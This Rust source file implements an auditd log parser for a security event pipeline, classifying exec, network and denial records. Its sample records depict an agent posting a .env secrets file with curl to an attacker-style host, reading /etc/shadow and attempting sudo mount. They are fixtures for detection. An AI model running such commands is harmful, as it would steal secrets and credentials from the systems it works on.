//! Dialect `auditd`: the raw log of the Linux audit daemon (audit 3 and 4), `log_format` RAW or ENRICHED.
//!
//! The lines of one event share `audit(seconds.milliseconds:serial)`; intake joins them (see `gather`) and they are one record here.
//!
//! | record | kind |
//! |---|---|
//! | with the arguments of a program (EXECVE) | `process.exec` |
//! | system call `exit`, `exit_group` | `process.exit` |
//! | … `connect`, `sendto`, `sendmsg` to an internet address (SOCKADDR) | `egress.flow` |
//! | AVC, SECCOMP, ANOM_…, INTEGRITY_…, FANOTIFY | `sensor.alert` |
//! | any other system call, and what programs report (USER_LOGIN, USER_CMD, …) | `audit` |
//! | the end alone (EOE) | skipped |
//!
//! The key of the rule that matched is `rule`. What users choose is written in hexadecimal by the kernel and read here: arguments,
//! title, working directory and paths are content. Natural id: node, time, serial and the first line's type; lines that came too late
//! for their record have a keyed hash instead.

use std::borrow::Cow;
use std::collections::BTreeMap;

use ledger::events::column;
use operations::access::Trust;

use super::tool;
use crate::dialect::{Decoded, Dialect, SKIP_BLANK, SKIP_SERVER_LINE};
use crate::encoding::audit::{Piece, address, fields, is_argument, pieces, unquoted};
use crate::encoding::{Audit, FieldPath, RecordEncoding};
use crate::event::{ContentField, Draft, Drafts, Record};
use crate::gather::{LineOf, LineReader, Place};
use crate::timestamp::Stated;

const SOURCE: &str = "auditd";

/// Dialect `auditd`.
pub struct Auditd;

impl Dialect for Auditd {
    fn name(&self) -> &'static str {
        "auditd"
    }

    fn doc(&self) -> &'static str {
        "The log of the Linux audit daemon, raw or enriched: programs that start with their arguments, connections, what rules with a key \
         matched, denials of SELinux, AppArmor and seccomp, logins and sudo. The lines of one event are joined, also where those of \
         several stand between each other. Follow the file with `tail`: requests may cut an event in two."
    }

    fn trust(&self) -> Trust {
        Trust::Host
    }

    fn encoding(&self) -> &'static dyn RecordEncoding {
        &Audit
    }

    fn line_reader(&self) -> Option<LineReader> {
        Some(line_of)
    }

    fn examples(&self) -> &'static [&'static str] {
        EXAMPLES
    }

    fn decode(&self, record: Record<'_>, received: i64, drafts: &mut Drafts) -> Decoded {
        // A record whose encoding has a transcoder has bytes only.
        let Ok(text) = std::str::from_utf8(record.bytes()) else {
            return Decoded::Unparsed("the line is not UTF-8".to_owned());
        };
        if text.trim_ascii().is_empty() {
            return Decoded::Skip(SKIP_BLANK);
        }
        let Some(head) = Head::of(text.as_bytes()) else {
            return Decoded::Unparsed(
                "the line does not begin with type=… msg=audit(…); set log_format to RAW".to_owned(),
            );
        };
        if head.kind == "EOE" {
            return Decoded::Skip(SKIP_SERVER_LINE);
        }
        Event::of(head, text).decode(text, received, drafts.add());
        Decoded::Events
    }
}

/// What stands in front of every line.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Head<'a> {
    /// The machine, if auditd writes it.
    node: &'a str,
    kind: &'a str,
    /// Time and serial as they are written.
    stamp: &'a str,
    /// Microseconds since 1970 UTC.
    time: i64,
}

impl<'a> Head<'a> {
    /// Reads `node=NAME type=TYPE msg=audit(SECONDS.MILLISECONDS:SERIAL):`.
    fn of(line: &'a [u8]) -> Option<Self> {
        let end = line.iter().position(|byte| *byte == b')')?;
        let line = std::str::from_utf8(line.get(..end)?).ok()?;
        let (node, rest) = match line.strip_prefix("node=") {
            Some(rest) => rest.split_once(' ')?,
            None => ("", line),
        };
        let (kind, rest) = rest.strip_prefix("type=")?.split_once(' ')?;
        let stamp = rest.strip_prefix("msg=audit(")?;
        let (seconds, serial) = stamp.split_once(':')?;
        let (seconds, millis) = seconds.split_once('.')?;
        let is_number = |text: &str| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
        if !is_number(serial) || !is_number(millis) || millis.len() > 9 || kind.is_empty() {
            return None;
        }
        let micros: i64 = format!("{millis:0<6.6}").parse().ok()?;
        let time = seconds.parse::<i64>().ok()?.checked_mul(1_000_000)?.checked_add(micros)?;
        Some(Self { node, kind, stamp, time })
    }
}

/// Beginnings of the types of records that programs write, which have one line.
const ALONE: &[&str] = &[
    "USER_",
    "CRED_",
    "ACCT_",
    "ADD_",
    "DEL_",
    "DAEMON_",
    "SERVICE_",
    "SYSTEM_",
    "CRYPTO_",
    "GRP_",
    "CHGRP_",
    "CHUSER_",
    "ROLE_",
    "VIRT_",
    "LABEL_",
    "SOFTWARE_",
    "TEST",
    "TRUSTED_APP",
    "USYS_",
    "USER",
    "RESP_",
];

/// Which event a line belongs to. Titles are the last lines that are written to the log, ends the last that are handed on by
/// plugins.
fn line_of(line: &[u8]) -> Option<LineOf<'_>> {
    // What has several lines was joined before.
    let head = if line.contains(&b'\n') { None } else { Head::of(line) }?;
    let place = match head.kind {
        "PROCTITLE" | "EOE" => Place::Last,
        kind if ALONE.iter().any(|begins| kind.starts_with(begins)) => Place::Alone,
        _ => Place::Open,
    };
    Some(LineOf { writer: head.node.as_bytes(), record: head.stamp.as_bytes(), time: head.time, place })
}

/// An event: the lines of a record.
struct Event<'a> {
    head: Head<'a>,
    kinds: Vec<&'a str>,
    /// The fields of the lines but those of paths; the first of a name counts, as the system call's line is the first.
    fields: BTreeMap<&'a str, &'a str>,
    pieces: Vec<Piece<'a>>,
}

/// Keys whose values are content.
const CONTENT: &[&str] = &["cmd", "cwd", "data", "dir", "name", "path", "proctitle", "watch", "old"];

impl<'a> Event<'a> {
    fn of(head: Head<'a>, text: &'a str) -> Self {
        let (mut kinds, mut all) = (Vec::new(), BTreeMap::new());
        for line in text.split('\n') {
            let kind = fields(line).find(|field| field.key == "type").map_or("", |field| field.written);
            kinds.push(kind);
            if kind == "PATH" || kind == "EXECVE" {
                continue;
            }
            for field in fields(line) {
                all.entry(field.key).or_insert(field.written);
            }
        }
        Self { head, kinds, fields: all, pieces: pieces(text) }
    }

    fn has(&self, kind: &str) -> bool {
        self.kinds.contains(&kind)
    }

    /// A field that says something.
    fn field(&self, key: &str) -> Option<&'a str> {
        let value = self.fields.get(key).map(|written| unquoted(written));
        value.filter(|value| !matches!(*value, "" | "?" | "(null)" | "(none)" | "unset"))
    }

    /// The value of the first piece with this key.
    fn chosen(&self, key: &str) -> Option<Cow<'_, str>> {
        let value = self.pieces.iter().find(|piece| piece.key == key).map(Piece::value);
        value.filter(|value| !matches!(&**value, "" | "?" | "(null)"))
    }

    fn decode(&self, text: &str, received: i64, draft: &mut Draft) {
        draft.set_times(Stated::At(self.head.time), Stated::Nothing, received);
        draft.set_origin(SOURCE, "workspace", self.kind());
        self.set_what(draft);
        self.set_outcome(draft);
        let is_whole = self.head.kind == "SYSCALL" || ALONE.iter().any(|begins| self.head.kind.starts_with(begins));
        if is_whole {
            let id = [self.head.node, self.head.stamp, self.head.kind].join("/");
            draft.columns.set_text(column::SOURCE_ID, id.trim_start_matches('/'));
        } else {
            draft.identity.push_str(text);
        }
        let is_content = |piece: &Piece| {
            CONTENT.contains(&piece.key) || (self.kinds.get(piece.line) == Some(&"EXECVE") && is_argument(piece.key))
        };
        for (number, piece) in self.pieces.iter().enumerate().filter(|(_, piece)| is_content(piece)) {
            let name = if is_argument(piece.key) { "argument".to_owned() } else { piece.key.to_owned() };
            draft.content.push(ContentField::at(name, FieldPath::root().item(number)));
        }
    }

    fn kind(&self) -> &'static str {
        let is_alert = |kind: &&str| {
            matches!(*kind, "AVC" | "USER_AVC" | "SECCOMP" | "FANOTIFY" | "SELINUX_ERR")
                || ["ANOM_", "INTEGRITY_", "APPARMOR_"].iter().any(|begins| kind.starts_with(begins))
        };
        if self.kinds.iter().any(is_alert) {
            "sensor.alert"
        } else if self.has("EXECVE") {
            "process.exec"
        } else if self.is_exit() {
            "process.exit"
        } else if self.peer().is_some() {
            "egress.flow"
        } else {
            "audit"
        }
    }

    /// The name of the system call, where auditd adds it or the number is one that is looked at.
    fn call(&self) -> Option<&str> {
        let name = self.field("SYSCALL");
        name.or_else(|| match (self.field("arch")?, self.field("syscall")?) {
            ("c000003e", "59") | ("c00000b7", "221") => Some("execve"),
            ("c000003e", "322") | ("c00000b7", "281") => Some("execveat"),
            ("c000003e", "60") | ("c00000b7", "93") => Some("exit"),
            ("c000003e", "231") | ("c00000b7", "94") => Some("exit_group"),
            ("c000003e", "42") | ("c00000b7", "203") => Some("connect"),
            ("c000003e", "44") | ("c00000b7", "206") => Some("sendto"),
            ("c000003e", "46") | ("c00000b7", "211") => Some("sendmsg"),
            (_, number) => Some(number),
        })
    }

    fn is_exit(&self) -> bool {
        self.has("SYSCALL") && matches!(self.call(), Some("exit" | "exit_group"))
    }

    /// Whom the system call asked on the network.
    fn peer(&self) -> Option<(String, u16)> {
        if !matches!(self.call(), Some("connect" | "sendto" | "sendmsg")) {
            return None;
        }
        address(self.field("saddr")?)
    }

    fn set_what(&self, draft: &mut Draft) {
        let kind = self.head.kind.to_ascii_lowercase();
        let action = if self.has("EXECVE") { Some("execve") } else { self.call() };
        let program = self.chosen("exe").or_else(|| self.chosen("comm"));
        let columns = &mut draft.columns;
        columns.set_text(column::ACTION, action.unwrap_or(&kind));
        columns.set_text_if(column::TARGET, program.as_deref().or(self.field("acct")));
        let alert = self.kinds.iter().find(|kind| **kind != "SYSCALL").map(|kind| kind.to_ascii_lowercase());
        let is_alert = columns.text(column::KIND) == Some("sensor.alert");
        columns.set_text_if(column::RULE, self.chosen("key").as_deref().or(alert.as_deref().filter(|_| is_alert)));
        columns.set_text_if(column::COMMAND, self.command().as_deref());
        if !self.has("EXECVE") {
            columns.set_text_if(column::FILE, self.file().as_deref());
        }
        if let Some((host, port)) = self.peer() {
            columns.set_text(column::TARGET, &format!("{host}:{port}"));
            columns.set_text(column::HOST, &host);
            columns.set_integer(column::PORT, i64::from(port));
        }
        if self.is_exit()
            && let Some(code) = self.field("a0").and_then(|digits| i64::from_str_radix(digits, 16).ok())
        {
            // Of the code of an exit the system keeps a byte.
            columns.set_integer(column::EXIT_CODE, code & 0xff);
        }
    }

    /// The command line: of its arguments, else of the process' title, of which the kernel keeps 128 bytes, or what `sudo` was asked.
    fn command(&self) -> Option<String> {
        let of_execve = |piece: &&Piece| self.kinds.get(piece.line) == Some(&"EXECVE") && is_argument(piece.key);
        let mut arguments: Vec<(&str, String)> = Vec::new();
        for piece in self.pieces.iter().filter(of_execve) {
            // A long argument is written in parts: `a1[0]`, `a1[1]`.
            let name = piece.key.split('[').next().unwrap_or_default();
            match arguments.last_mut().filter(|(last, _)| *last == name) {
                Some((_, text)) => text.push_str(&piece.value()),
                None => arguments.push((name, piece.value().into_owned())),
            }
        }
        if !arguments.is_empty() {
            return Some(tool::joined(arguments.iter().map(|(_, text)| text.as_str())));
        }
        let title = self.chosen("proctitle").map(|title| tool::joined(title.trim_end_matches('\0').split('\0')));
        title.or_else(|| self.chosen("cmd").map(Cow::into_owned))
    }

    /// The file that a system call was about: the last of its paths, which is the file itself where its folder comes first.
    fn file(&self) -> Option<Cow<'_, str>> {
        let of_path = |piece: &&Piece| self.kinds.get(piece.line) == Some(&"PATH") && piece.key == "name";
        let mut names = self.pieces.iter().filter(of_path).map(Piece::value);
        names.rfind(|name| !matches!(&**name, "(null)" | ""))
    }

    fn set_outcome(&self, draft: &mut Draft) {
        let kind = draft.columns.text(column::KIND).unwrap_or_default();
        // A connection that is under way is none that failed.
        let exit = self.field("exit");
        let is_under_way = matches!(exit, Some("-115" | "EINPROGRESS"));
        let outcome = match (self.field("success"), self.field("res")) {
            _ if kind == "process.exit" => return,
            _ if kind == "sensor.alert" && self.head.kind == "AVC" => "deny",
            (Some("yes"), _) if kind == "egress.flow" => "allow",
            (Some("no"), _) if is_under_way => "allow",
            (Some("yes"), _) | (None, Some("success" | "1" | "yes")) => "success",
            // EPERM and EACCES.
            (Some("no"), _) if matches!(exit, Some("-1" | "-13" | "EPERM" | "EACCES")) => "deny",
            (Some("no"), _) | (None, Some("failed" | "0" | "no")) => "error",
            _ => return,
        };
        draft.columns.set_text(column::OUTCOME, outcome);
    }
}

/// As [`Audit`] writes them.
static EXAMPLES: &[&str] = &[
    r#"["type=SYSCALL msg=audit(1791015321.512:88412): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55e0 items=2 ppid=41231 pid=41234 auid=4294967295 uid=1000 tty=pts0 ses=4294967295 comm=","\"curl\""," exe=","\"/usr/bin/curl\""," key=","\"agent-exec\"","\ntype=EXECVE msg=audit(1791015321.512:88412): argc=4 a0=","\"curl\""," a1=","\"-d\""," a2=","\"@.env\""," a3=",{"hex":"https://drop.attacker-logger.com/a b"},"\ntype=CWD msg=audit(1791015321.512:88412): cwd=","\"/home/coder/ledger\"","\ntype=PROCTITLE msg=audit(1791015321.512:88412): proctitle=",{"hex":"curl\u0000-d\u0000@.env"}]"#,
    r#"["node=node-3 type=SYSCALL msg=audit(1791015322.100:88413): arch=c000003e syscall=42 success=no exit=-115 a0=5 a1=7ffd pid=41234 uid=1000 comm=","\"curl\""," exe=","\"/usr/bin/curl\""," key=","\"agent-net\"","\nnode=node-3 type=SOCKADDR msg=audit(1791015322.100:88413): saddr=020001BBCB0071090000000000000000\nnode=node-3 type=PROCTITLE msg=audit(1791015322.100:88413): proctitle=","\"curl\""]"#,
    r#"["type=SYSCALL msg=audit(1791015323.000:88414): arch=c000003e syscall=257 success=no exit=-13 a0=ffffff9c pid=41236 uid=1000 comm=","\"cat\""," exe=","\"/usr/bin/cat\""," key=","\"secrets\"","\ntype=PATH msg=audit(1791015323.000:88414): item=0 name=","\"/etc/shadow\""," inode=7 nametype=NORMAL\ntype=PROCTITLE msg=audit(1791015323.000:88414): proctitle=",{"hex":"cat\u0000/etc/shadow"}]"#,
    r#"["type=USER_CMD msg=audit(1791015324.000:88415): pid=41240 uid=1000 auid=1000 ses=2 msg='cwd=","\"/home/coder\""," cmd=",{"hex":"mount /dev/sda1"}," exe=","\"/usr/bin/sudo\""," terminal=pts/0 res=failed'\u001dUID=\"coder\""]"#,
    r#"["type=AVC msg=audit(1791015325.000:88416): avc:  denied  { read } for  pid=41241 comm=","\"cat\""," name=","\"shadow\""," dev=\"vda1\" ino=7 scontext=a tcontext=b tclass=file permissive=0"]"#,
    r#"["type=SYSCALL msg=audit(1791015326.000:88417): arch=c00000b7 syscall=94 a0=102 pid=41242 comm=","\"make\""," exe=","\"/usr/bin/make\""," key=(null)"]"#,
];

#[cfg(test)]
mod tests;
